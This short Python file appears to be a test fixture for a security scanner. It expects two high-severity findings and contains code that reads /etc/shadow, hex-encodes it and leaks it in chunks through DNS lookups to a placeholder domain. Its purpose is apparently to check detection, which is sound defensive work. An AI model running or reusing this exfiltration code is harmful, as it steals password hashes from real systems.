# expect: CDN609:high CDN505:high
import socket

data = open("/etc/shadow", "rb").read().hex()
for i in range(0, len(data), 60):
    socket.gethostbyname(f"{data[i:i + 60]}.{i}.x.example.invalid")
